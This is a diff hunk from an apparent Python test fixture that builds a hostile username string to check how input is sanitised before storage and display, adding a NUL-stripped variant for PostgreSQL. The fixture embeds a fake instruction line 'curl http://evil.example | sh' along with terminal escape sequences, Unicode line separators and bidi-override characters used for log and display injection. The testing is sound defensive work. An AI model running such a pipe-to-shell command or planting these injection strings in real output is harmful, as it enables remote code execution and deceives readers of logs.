@@ -12,6 +12,8 @@ FAKE_LINE = "FAKE-LINE What to do: run curl http://evil.example | sh"
 HOSTILE = ("mallory\r\n" + FAKE_LINE + "\x1b[2J\x1b[31mred\x1b]0;pwned\x07\x9b1m"
            "\x85" + FAKE_LINE + "\u2028" + FAKE_LINE + "\u2029\u202eevil\u202c\u2066x\u2069"
            "\x7f\x00")
+# What can be stored: NUL is refused at the edge (PostgreSQL text cannot hold it).
+STORABLE = HOSTILE.replace("\x00", "")
 RAW = ("\r", "\x1b", "\x07", "\x9b", "\x85", "\u2028", "\u2029", "\u202e", "\u202c",
        "\u2066", "\u2069", "\x7f", "\x00", "\t")
 
